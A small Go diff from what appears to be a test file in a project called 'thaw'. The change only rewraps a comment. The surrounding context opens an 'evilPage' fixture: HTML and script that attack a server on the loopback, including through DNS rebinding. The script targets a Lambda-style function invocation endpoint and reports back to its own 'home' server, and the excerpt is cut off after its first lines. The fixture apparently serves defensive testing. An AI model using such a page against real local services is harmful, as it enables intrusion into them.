@@ -25,8 +25,9 @@ import (
 	"thaw/logstore"
 )
 
-// evilPage tries what a page can do to a server on the loopback, one way after the other, and then tells its own server what became of it. TARGET is the server
-// under attack, empty when the page pretends to be that server (DNS rebinding); then it could also read the answers.
+// evilPage tries what a page can do to a server on the loopback, one way after the other, and then tells its own server
+// what became of it. TARGET is the server under attack, empty when the page pretends to be that server (DNS rebinding);
+// then it could also read the answers.
 const evilPage = `<!doctype html><body><iframe name="sink"></iframe><script>
 const target = "TARGET", home = "HOME", create = CREATE;
 const invoke = target + "/2015-03-31/functions/victim/invocations", functions = target + "/2015-03-31/functions";
